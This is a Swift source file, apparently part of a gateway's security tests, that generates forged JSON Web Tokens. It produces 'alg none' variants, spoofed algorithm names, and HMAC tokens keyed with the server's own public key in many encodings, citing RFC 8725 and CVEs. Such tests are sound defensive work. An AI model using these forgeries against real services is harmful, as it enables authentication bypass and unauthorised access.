// SPDX-License-Identifier: Apache-2.0

import COpenSSL
import Foundation
import GatewayCore
import GatewayCrypto

extension TokenAttack {
    /// The token's own choice of algorithm (RFC 8725, sections 2.1 and 3.1).
    static func algorithm(_ material: AttackMaterial) throws -> [TokenAttack] {
        try none(material) + names(material) + publicKeyAsSecret(material)
    }

    private static func none(_ material: AttackMaterial) throws -> [TokenAttack] {
        try ["none", "None", "NONE", "nOnE", "none ", "none\\u0000", "", "null"].flatMap { name in
            let header = material.header.with("alg", "\"\(name)\"")
            let signed = AttackMaterial.base64(header.json) + "." + AttackMaterial.base64(material.claims.json)
            let source = "RFC 8725, 2.1"
            return [
                TokenAttack(source, "alg '\(name)' without a signature", .tokenAlgorithm, signed + "."),
                TokenAttack(
                    source,
                    "alg '\(name)' with the right signature",
                    .tokenAlgorithm,
                    try material.token(signed: signed)
                ),
                TokenAttack(source, "alg '\(name)' with one byte", .tokenAlgorithm, signed + ".AA"),
            ]
        } + [
            TokenAttack(
                "CVE-2015-9235",
                "alg none, without kid and typ",
                .tokenAlgorithm,
                AttackMaterial.base64(#"{"alg":"none"}"#) + "." + AttackMaterial.base64(material.claims.json) + "."
            )
        ]
    }

    private static func names(_ material: AttackMaterial) throws -> [TokenAttack] {
        let right = material.algorithm.rawValue
        let known = ["HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "ES256", "ES384", "ES512", "PS256", "PS384"]
        let others = known + ["PS512", "EdDSA", "Ed25519"]
        let strange = [
            right.lowercased(), right.prefix(1) + right.dropFirst().lowercased(), right + " ", " " + right,
            right + "\\u0000",
            right + "\\n", right.replacing("S", with: "\\u017f"), right.replacing("S", with: "\\uff33"), "ES256K",
            "Ed448",
            "RS1", "HS1", "SHA256withECDSA", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", "RSA-OAEP",
            "A128KW",
            "ES256,RS256", "*",
        ]
        return try (others + strange).filter { $0 != right }.map { name in
            TokenAttack(
                "RFC 8725, 3.1",
                "alg '\(name)' with the \(right) signature",
                .tokenAlgorithm,
                try material.token(header: material.header.with("alg", "\"\(name)\""))
            )
        }
    }

    /// HMAC with what everybody knows as its secret (RFC 8725, section 2.1; CVE-2016-5431 and its many children).
    private static func publicKeyAsSecret(_ material: AttackMaterial) throws -> [TokenAttack] {
        let pem = material.key.publicPEM
        let lines = pem.split(separator: "\n")
        let base64 = lines.dropFirst().dropLast().joined()
        let jwk = material.key.publicJWK
        let number = jwk["x"] ?? jwk["n"]
        let secrets: [(source: String, name: String, bytes: [UInt8])] = [
            ("CVE-2016-5431", "the PEM", Array(pem.utf8)),
            ("CVE-2016-5431", "the PEM without its last line feed", Array(pem.dropLast().utf8)),
            ("CVE-2016-5431", "the PEM in lines of CR LF", Array(pem.replacing("\n", with: "\r\n").utf8)),
            ("CVE-2023-48223", "the PEM behind a blank", Array((" " + pem).utf8)),
            ("CVE-2016-5431", "the PEM's base64", Array(base64.utf8)),
            ("CVE-2024-33663", "the DER", Array(Data(base64Encoded: base64) ?? Data())),
            ("CVE-2026-48526", "the JWK", Array(jwk.serialized().utf8)),
            ("RFC 8725, 2.1", "the JWK's number", Base64URL.decode((number?.string ?? "").utf8) ?? [0]),
            ("RFC 8725, 2.1", "the JWK's number in base64url", Array((number?.string ?? "").utf8)),
            ("RFC 8725, 2.1", "the kid", Array(material.key.keyID.utf8)),
            ("CVE-2026-45363", "one zero, for an empty key", [0]),
            ("RFC 7518, 3.2", "a secret as short as 'secret'", Array("secret".utf8)),
        ]
        return try secrets.flatMap { source, name, secret in
            try ["HS256", "HS384", "HS512"].map { algorithm in
                let token = try material.token(header: material.header.with("alg", "\"\(algorithm)\"")) { bytes in
                    hmac(secret, bytes, "SHA\(algorithm.dropFirst(2))")
                }
                return TokenAttack(source, "\(algorithm) with \(name)", .tokenAlgorithm, token)
            }
        } + [
            TokenAttack(
                "libjwt issue 200",
                "hs256 with the PEM",
                .tokenAlgorithm,
                try material.token(header: material.header.with("alg", "\"hs256\"")) {
                    hmac(Array(pem.utf8), $0, "SHA256")
                }
            )
        ]
    }

    private static func hmac(_ key: [UInt8], _ bytes: [UInt8], _ digest: String) -> [UInt8] {
        var code = [UInt8](repeating: 0, count: 64)
        var count = 0
        EVP_Q_mac(nil, "HMAC", nil, digest, nil, key, key.count, bytes, bytes.count, &code, code.count, &count)
        return Array(code[..<count])
    }
}
